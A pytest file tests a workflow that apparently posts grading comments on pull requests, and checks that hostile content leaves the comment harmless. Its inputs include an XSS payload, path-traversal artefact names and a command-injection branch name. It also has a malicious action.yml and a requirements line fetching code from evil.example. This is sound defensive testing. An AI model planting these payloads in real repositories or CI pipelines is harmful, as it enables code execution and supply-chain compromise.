"""Whatever a pull request makes of artefact, branch and workflow, the comment stays harmless."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from workflow_course import RIGHT
from workflow_hub import Hub, Pull
from workflow_results import assert_silent, describe, list_bodies, pack

KIM = {"submissions/tiny/kim.yaml": RIGHT}
HOSTILE = "@everyone<img src=x onerror=alert(1)>[x](https://evil.example)\n::error::x"
INSTALLED = ["install", "--quiet", "--disable-pip-version-check", "--requirement"]


def test_number_in_the_artefact(hub: Hub, pull: Pull, tmp_path: Path) -> None:
    """An artefact that names somebody else's pull request, and brings more, is not asked."""
    victim = hub.propose({"submissions/tiny/lee.yaml": RIGHT}, owner="lee")
    files: dict[str, bytes | str] = {
        "results.json": json.dumps(describe()),
        "number": str(victim.number),
        "pr_number.txt": str(victim.number),
        "comment.md": "full marks",
        "../../action.yml": "runs: {using: composite, steps: []}",
        "/tmp/pwned-by-an-artefact": "x",
        "sitecustomize.py": "open('pwned', 'w')",
    }
    runner = hub.comment(pull, pack(tmp_path / "more.zip", files))
    assert (len(list_bodies(hub, pull.number)), list_bodies(hub, victim.number)) == (1, [])
    assert runner.failures == []
    assert not Path("/tmp/pwned-by-an-artefact").exists()
    left = {path.name for folder in runner.temp.glob("tmp*") for path in folder.iterdir()}
    assert left == {"artefact.zip", "results.json", "results.json.md"}


def test_hostile_names(hub: Hub, pull: Pull, tmp_path: Path) -> None:
    """A name with a mention, HTML, a link and a command becomes none of them."""
    content = {"results.json": json.dumps(describe(HOSTILE))}
    runner = hub.comment(pull, pack(tmp_path / "hostile.zip", {**content}))
    body = list_bodies(hub)[0]
    found = [part for part in ("@everyone", "<img", "](https:", "\n::error") if part in body]
    assert (runner.failures, found, "::error" in runner.said) == ([], [], False)


@pytest.mark.parametrize(
    "content",
    [
        "",
        "[]",
        "\x00\xff::error::x",
        json.dumps({**describe(), "comment": "full marks"}),
        json.dumps(describe(score=float("inf"))),
        json.dumps(describe(assignment="<b>::error::x")),
        "[" * 100_000,
    ],
)
def test_no_results(hub: Hub, pull: Pull, tmp_path: Path, content: str) -> None:
    """A file that holds anything but results is posted nowhere and repeated nowhere."""
    runner = hub.comment(pull, pack(tmp_path / "odd.zip", {"results.json": content}))
    assert_silent(hub, runner)
    assert (runner.failures, "::error" in runner.said) == (["Write the comment"], False)


def test_giant(hub: Hub, pull: Pull, tmp_path: Path) -> None:
    """A small archive that grows without end is read to its bound and no further."""
    content = json.dumps(describe()).encode() + b" " * 50_000_000
    runner = hub.comment(pull, pack(tmp_path / "giant.zip", {"results.json": content}))
    assert_silent(hub, runner)
    assert runner.failures == ["Fetch the results"]


def test_giant_archive(hub: Hub, pull: Pull, tmp_path: Path) -> None:
    """An archive larger than results can be is not even fetched."""
    path = tmp_path / "large.zip"
    path.write_bytes(bytes(5_000_000))
    runner = hub.comment(pull, path)
    assert_silent(hub, runner)
    assert [call[1] for call in hub.list_calls() if call[1].endswith("/zip")] == []


def test_link(hub: Hub, pull: Pull, tmp_path: Path) -> None:
    """A link in the artefact leads nowhere: its text is read, and is no results."""
    packed = pack(tmp_path / "link.zip", {"results.json": "/etc/passwd"}, links=True)
    runner = hub.comment(pull, packed)
    assert_silent(hub, runner)
    assert (runner.failures, "root:" in runner.said) == (["Write the comment"], False)


@pytest.mark.parametrize("content", [b"", b"no archive", b"PK\x05\x06" + bytes(18)])
def test_no_archive(hub: Hub, pull: Pull, tmp_path: Path, content: bytes) -> None:
    """What is no archive, or one without results, is posted nowhere."""
    path = tmp_path / "odd.zip"
    path.write_bytes(content)
    runner = hub.comment(pull, path)
    assert_silent(hub, runner)
    assert (runner.failures, "Traceback" in runner.said) == (["Fetch the results"], False)


def test_nothing_was_kept(hub: Hub, pull: Pull) -> None:
    """A run that left no results ends quietly, before anything is installed."""
    runner = hub.comment(pull, None)
    assert_silent(hub, runner)
    assert (runner.failures, hub.installed.exists()) == ([], False)


def test_pull_request_rewrites_the_machinery(hub: Hub, artefact: Path) -> None:
    """The action, workflow and requirements that comment are those of the default branch."""
    runs = "{using: composite, steps: [{shell: bash, run: 'touch $GITHUB_WORKSPACE/pwned'}]}"
    files = {
        **KIM,
        "action.yml": f"inputs: {{}}\noutputs: {{}}\nruns: {runs}\n",
        ".github/workflows/comment.yml": "on: workflow_run\njobs: {}\n",
        "requirements.txt": "grader @ https://evil.example/grader.whl\n",
    }
    runner = hub.comment(hub.propose(files), artefact)
    assert (runner.failures, len(list_bodies(hub))) == ([], 1)
    text = (runner.workspace / "requirements.txt").read_text(encoding="utf-8")
    assert ("evil" in text, list(hub.folder.rglob("pwned"))) == (False, [])
    assert hub.installed.read_text("utf-8").splitlines() == [*INSTALLED, "requirements.txt"]


def test_branch_is_no_command(hub: Hub, artefact: Path) -> None:
    """A branch whose name is a command, and fields of a request, is found and runs nothing."""
    pull = hub.propose(KIM, branch="$(touch${IFS}pwned)&state=all#@/etc/passwd", title="`x`")
    runner = hub.comment(pull, artefact)
    assert (runner.failures, len(list_bodies(hub))) == ([], 1)
    assert list(hub.folder.rglob("pwned*")) == []
